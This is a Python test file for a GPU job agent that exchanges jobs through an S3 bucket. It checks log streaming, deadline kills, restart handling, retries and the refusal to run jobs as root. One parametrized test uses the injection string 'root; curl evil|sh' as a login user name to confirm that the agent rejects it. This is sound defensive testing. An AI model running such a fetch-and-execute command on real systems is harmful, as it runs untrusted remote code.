"""The job agent against the runner, for real: the runner's ``BucketChannel`` (boto3) and ``job_agent.py`` (its own
process, the ``aws`` CLI on PATH) exchange jobs through moto's S3 server."""

from __future__ import annotations

import json
import os
import re
import signal
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from components.image_bake import control_folder
from components.userdata import READY_UPLOAD_COMMANDS
from components.userdata.settings import JOB_COMMANDS
from gpulease.ephemeral.channel import BucketChannel
from instance import instance_setup
from tests.support.channel import BoundedChannel
from tests.support.instance import MetadataServer, MetadataState, deadline_tags
from tests.support.job_agent import (
    CHECKPOINT_URI,
    JOB_USER,
    JOBS,
    PREFIX,
    AgentProcess,
    FakeAwsCli,
    agent_settings,
    data_directory,
    empty_bucket,
    get_json,
    log_text,
    moto_s3,
    put_request,
    wait_for,
)

OUTPUTS = {"instanceId": "i-0123456789abcdef0", "checkpointUri": CHECKPOINT_URI}


@pytest.fixture(scope="module")
def s3() -> Iterator[Any]:
    with moto_s3() as client:
        yield client


@pytest.fixture
def world(s3: Any, tmp_path: Path) -> Iterator[tuple[Any, FakeAwsCli, Path, Path]]:
    empty_bucket(s3)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    cli = FakeAwsCli(s3, bin_dir)
    with data_directory() as data:
        yield s3, cli, bin_dir, data
    cli.close()


@pytest.fixture
def agents(tmp_path: Path) -> Iterator[list[AgentProcess]]:
    started: list[AgentProcess] = []
    yield started
    for agent in started:
        agent.stop()


def start(agents: list[AgentProcess], tmp_path: Path, bin_dir: Path, settings: dict[str, Any], name: str = "agent") -> AgentProcess:
    agent = AgentProcess(tmp_path, bin_dir, settings, name)
    agents.append(agent)
    return agent


def result(s3: Any, job: str, timeout: float = 20) -> dict[str, Any]:
    return wait_for(lambda: get_json(s3, f"{JOBS}{job}/result.json"), timeout, f"{job}/result.json")


TRAINING = """echo "user=$(id -un) cwd=$(pwd) job=$GPULEASE_JOB_ID artifacts=$GPULEASE_ARTIFACTS_DIR secret=${AWS_SECRET_ACCESS_KEY:-unset}"
echo run >> runs.txt
echo "step 1 loss 2.31"
while [ ! -e go ]; do sleep 0.02; done
echo "step 2 loss 1.97" >&2
mkdir -p "$GPULEASE_ARTIFACTS_DIR/model"
echo '{"loss": 1.97}' > "$GPULEASE_ARTIFACTS_DIR/metrics.json"
printf 'weights' > "$GPULEASE_ARTIFACTS_DIR/model/adapter.bin"
exit 3"""


def test_a_job_goes_from_request_to_streamed_log_artifacts_and_exit_code(world, tmp_path: Path, agents, monkeypatch) -> None:
    s3, cli, bin_dir, data = world
    # With the control-file copy command user-data gives a CI stack: the run manifest goes to the control folder.
    settings = agent_settings(tmp_path, data, control_upload_command=JOB_COMMANDS["aws"]["copy_command"],
                              experiment="lora")
    # Step 1 of the protocol: the bootstrap's marker, published with the command user-data gives it.
    marker = tmp_path / "ready.json"
    marker.write_text(json.dumps({"ready": True, "failed": [], "time": "2026-12-01T08:05:00Z", "instanceId": OUTPUTS["instanceId"]}))
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    boot = {**instance_setup.DEFAULTS, **settings, "ready_upload_command": READY_UPLOAD_COMMANDS["aws"]}
    instance_setup.publish_marker(boot, str(marker))
    channel = BoundedChannel(s3, poll_seconds=0.05)
    lines: list[str] = []
    assert channel.wait_ready(OUTPUTS, 5, lines.append)["instanceId"] == OUTPUTS["instanceId"]

    agent = start(agents, tmp_path, bin_dir, settings)

    def on_line(line: str) -> None:
        lines.append(line)
        if line == "step 1 loss 2.31":
            # Only a log streamed while the job runs gets here: the job waits for this file to go on.
            (data / "go").touch()

    deadline = datetime.now(UTC) + timedelta(seconds=60)
    code = channel.run(OUTPUTS, "ci-1-abc", TRAINING, deadline, on_line)

    assert code == 3
    assert lines[1:] == [
        f"user={JOB_USER} cwd={data} job=ci-1-abc artifacts={data}/artifacts/ci-1-abc secret=unset",
        "step 1 loss 2.31",
        "step 2 loss 1.97",
    ]
    assert (data / "runs.txt").read_text() == "run\n"
    assert (data / "logs" / "jobs" / "ci-1-abc.log").read_text().splitlines() == lines[1:]

    written = channel.download_artifacts(OUTPUTS, "ci-1-abc", tmp_path / "out")
    assert sorted(p.relative_to(tmp_path / "out").as_posix() for p in written) == ["metrics.json", "model/adapter.bin"]
    assert json.loads((tmp_path / "out" / "metrics.json").read_text()) == {"loss": 1.97}

    puts = cli.puts()
    job = f"{JOBS}ci-1-abc/"
    chunks = [k for k in puts if k.startswith(f"{job}log/")]
    assert len(chunks) >= 2, "the log arrives in several chunks while the job runs"
    assert chunks == [f"{job}log/{n:08d}.txt" for n in range(1, len(chunks) + 1)]
    assert puts[-1] == f"{job}result.json", "the result is written last"
    assert set(puts[-3:-1]) == {f"{job}artifacts/metrics.json", f"{job}artifacts/model/adapter.bin"}
    outcome = get_json(s3, f"{job}result.json")
    assert outcome["exitCode"] == 3 and outcome["finishedAt"].endswith("Z") and "note" not in outcome
    assert "job ci-1-abc: exit code 3" in agent.text()
    # The run manifest of the CI job, written as it started, locally and in the control folder.
    manifest = get_json(s3, f"{control_folder(PREFIX)}manifest.json")
    assert manifest == json.loads((data / "logs" / "manifest.json").read_text())
    assert (manifest["stack"], manifest["experiment"], manifest["job"]) == ("ci-1-abc", "lora", "ci-1-abc")
    assert manifest["checkpointUri"] == CHECKPOINT_URI and manifest["code"] is None


def test_the_job_is_stopped_at_its_deadline_with_its_whole_process_group(world, tmp_path: Path, agents) -> None:
    s3, _, bin_dir, data = world
    settings = agent_settings(tmp_path, data, kill_grace_seconds=0.5)
    start(agents, tmp_path, bin_dir, settings)
    # A job that shrugs SIGTERM off, with a child that ignores it: only the SIGKILL to the group ends them.
    command = """trap 'echo got SIGTERM' TERM
(trap '' TERM; exec sleep 600) &
echo $! > child.pid
echo started
while :; do wait; done"""
    # Six seconds: time for a loaded machine to start the job and install its traps before the stop.
    put_request(s3, "ci-2-abc", command, deadline=datetime.now(UTC) + timedelta(seconds=6))
    outcome = result(s3, "ci-2-abc")

    assert outcome["exitCode"] == 137
    assert outcome["note"] == "stopped at its deadline (SIGTERM, SIGKILL 0.5 s later)"
    assert log_text(s3, "ci-2-abc").splitlines() == [
        "started",
        "got SIGTERM",
        "[gpulease] stopped at its deadline (SIGTERM, SIGKILL 0.5 s later)",
    ]
    child = int((data / "child.pid").read_text())
    wait_for(lambda: not _alive(child), 5, "the job's child to be gone")


def test_a_finished_job_is_never_run_again(world, tmp_path: Path, agents) -> None:
    s3, cli, bin_dir, data = world
    settings = agent_settings(tmp_path, data)
    first = start(agents, tmp_path, bin_dir, settings)
    put_request(s3, "ci-3-abc", "echo run >> runs.txt; echo once")
    assert result(s3, "ci-3-abc")["exitCode"] == 0
    first.stop()
    assert (data / "runs.txt").read_text() == "run\n"

    # The same instance after a restart (its local state), then a new state directory (the result in the bucket).
    again = start(agents, tmp_path, bin_dir, settings, "again")
    fresh = start(agents, tmp_path, bin_dir, {**settings, "state_dir": str(tmp_path / "state2")}, "fresh")
    wait_for(lambda: "has a result.json, skipped" in fresh.text(), 10, "the fresh agent to skip the job")
    time.sleep(0.5)
    assert (data / "runs.txt").read_text() == "run\n"
    assert "started" not in again.text()
    assert log_text(s3, "ci-3-abc") == "once\n", (first.text(), again.text(), fresh.text(), [c for c in cli.calls if c["verb"] == "cp"])


def test_an_agent_restart_mid_job_stops_the_job_and_reports_it_lost(world, tmp_path: Path, agents) -> None:
    s3, _, bin_dir, data = world
    settings = agent_settings(tmp_path, data)
    first = start(agents, tmp_path, bin_dir, settings)
    put_request(s3, "ci-4-abc", "echo run >> runs.txt; echo $$ > job.pid; echo working; sleep 600")
    wait_for(lambda: log_text(s3, "ci-4-abc") == "working\n", 10, "the first chunk")
    first.signal(signal.SIGKILL)  # a crash: no chance to clean up
    first.proc.wait()
    job_pid = int((data / "job.pid").read_text())
    assert _alive(job_pid)

    start(agents, tmp_path, bin_dir, settings, "restarted")
    outcome = result(s3, "ci-4-abc")
    assert outcome["exitCode"] == 125 and outcome["note"] == "lost: the job agent restarted while it ran"
    wait_for(lambda: not _alive(job_pid), 5, "the orphaned job to be killed")
    assert (data / "runs.txt").read_text() == "run\n"
    assert log_text(s3, "ci-4-abc") == "working\n[gpulease] lost: the job agent restarted while it ran\n"


def test_a_stopping_agent_stops_the_job_and_still_reports_it(world, tmp_path: Path, agents) -> None:
    s3, _, bin_dir, data = world
    agent = start(agents, tmp_path, bin_dir, agent_settings(tmp_path, data))
    put_request(s3, "ci-5-abc", "trap 'echo saving; exit 7' TERM; echo training; sleep 600 & wait")
    wait_for(lambda: log_text(s3, "ci-5-abc") == "training\n", 10, "the first chunk")
    agent.signal(signal.SIGTERM)  # what systemd sends when the watchdog shuts the instance down
    assert agent.proc.wait(timeout=15) == 0
    outcome = get_json(s3, f"{JOBS}ci-5-abc/result.json")
    assert outcome is not None and outcome["exitCode"] == 7
    assert log_text(s3, "ci-5-abc") == "training\nsaving\n[gpulease] stopped: the job agent is stopping\n"


def test_expired_and_leftover_requests_are_never_run(world, tmp_path: Path, agents) -> None:
    s3, _, bin_dir, data = world
    settings = agent_settings(tmp_path, data)
    now = datetime.now(UTC)
    put_request(s3, "ci-6-late", "echo ran >> runs.txt", deadline=now - timedelta(seconds=1))
    # Left in a retained bucket by an instance before this one: requested before this instance booted.
    put_request(s3, "ci-6-old", "echo ran >> runs.txt", requested=now - timedelta(hours=2))
    put_request(s3, "ci-6-bad", "", deadline=now + timedelta(minutes=5))
    agent = start(agents, tmp_path, bin_dir, settings)

    late = result(s3, "ci-6-late")
    assert late["exitCode"] == 125 and late["note"].startswith("not run: too late (stop at ")
    assert log_text(s3, "ci-6-late").startswith("[gpulease] not run: too late")
    assert result(s3, "ci-6-bad")["note"] == "not run: the request has no command"
    wait_for(lambda: "job ci-6-old: requested at" in agent.text(), 10, "the leftover to be seen")
    assert "before this instance booted, ignored" in agent.text()
    assert get_json(s3, f"{JOBS}ci-6-old/result.json") is None, "nothing is written into another instance's job"
    assert not (data / "runs.txt").exists()


def test_cli_failures_are_retried_and_lose_nothing(world, tmp_path: Path, agents) -> None:
    s3, cli, bin_dir, data = world
    settings = agent_settings(tmp_path, data)
    cli.failing = {"ls"}  # the bucket is unreachable when the agent starts
    agent = start(agents, tmp_path, bin_dir, settings)
    command = "for i in 1 2 3; do echo line $i; done; while [ ! -e go ]; do sleep 0.02; done; echo line 4; echo end >&2"
    lines: list[str] = []
    code: list[int] = []
    runner = threading.Thread(
        target=lambda: code.append(
            BucketChannel(s3, poll_seconds=0.05).run(
                OUTPUTS, "ci-7-abc", command, datetime.now(UTC) + timedelta(seconds=60), lines.append
            )
        )
    )
    runner.start()
    try:
        wait_for(lambda: "bucket: list" in agent.text() and "exit 255: Could not connect" in agent.text(), 10, "a failed ls")
        cli.failing = set()
        wait_for(lambda: (data / "logs" / "jobs" / "ci-7-abc.log").exists(), 10, "the job to start")
        cli.failing = {"cp"}  # now the uploads fail while the job writes
        (data / "go").touch()
        wait_for(lambda: "job ci-7-abc: exit code 0" in agent.text(), 10, "the job to end")
        wait_for(lambda: re.search(r"log chunk \d+ of ci-7-abc: exit 255", agent.text()), 10, "a failed chunk upload")
        time.sleep(0.3)
        assert get_json(s3, f"{JOBS}ci-7-abc/result.json") is None, "no result before the whole log is up"
        cli.failing = set()
        runner.join(timeout=20)
    finally:
        cli.failing = set()
        runner.join(timeout=20)
    assert code == [0]
    assert lines == ["line 1", "line 2", "line 3", "line 4", "end"]


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    with open(f"/proc/{pid}/stat") as fh:  # a zombie (exited, not yet reaped by init) is gone too
        return fh.read().split(") ")[-1][:1] != "Z"



@pytest.mark.skipif(os.geteuid() != 0, reason="the agent drops to the login user only when it runs as root")
@pytest.mark.parametrize("user", ["root; curl evil|sh", "", "no-such-user-gpulease", "root"])
def test_a_job_never_runs_as_root_when_the_login_user_is_not_a_real_account(
    world, tmp_path: Path, agents, user: str
) -> None:
    s3, _, bin_dir, data = world
    agent = start(agents, tmp_path, bin_dir, agent_settings(tmp_path, data, data_owner=user))
    put_request(s3, "ci-8-abc", "id -u > whoami.txt; echo ran")
    outcome = result(s3, "ci-8-abc")
    why = "is root" if user == "root" else "is not an account on this instance"
    assert outcome["exitCode"] == 125
    assert outcome["note"] == f"not run: the login user {user!r} {why}; jobs never run as root"
    assert log_text(s3, "ci-8-abc") == f"[gpulease] not run: the login user {user!r} {why}; jobs never run as root\n"
    assert not (data / "whoami.txt").exists()
    assert f"refused: the login user {user!r}" in agent.text()


def test_the_instance_deadline_comes_from_its_tag_through_the_metadata_token(world, tmp_path: Path, agents) -> None:
    s3, _, bin_dir, data = world
    # The instance stops in 5 min 10 s: less its 5-minute final sync and twice the 30 s grace, too late to start.
    soon = (datetime.now(UTC) + timedelta(minutes=5, seconds=10)).replace(microsecond=0)
    state = MetadataState(cloud="aws", tags=deadline_tags(soon.timestamp()))
    with MetadataServer(state) as server:
        settings = agent_settings(tmp_path, data, metadata_url=server.url, kill_grace_seconds=30)
        start(agents, tmp_path, bin_dir, settings)
        put_request(s3, "ci-9-abc", "echo ran >> runs.txt", deadline=datetime.now(UTC) + timedelta(minutes=30))
        outcome = result(s3, "ci-9-abc")
    stop_at = (soon - timedelta(minutes=5, seconds=60)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert outcome["exitCode"] == 125 and outcome["note"] == f"not run: too late (stop at {stop_at})"
    assert not (data / "runs.txt").exists()
    assert state.refused == [] and any(p.startswith("/latest/meta-data/tags/instance/") for _, p, _ in state.requests)
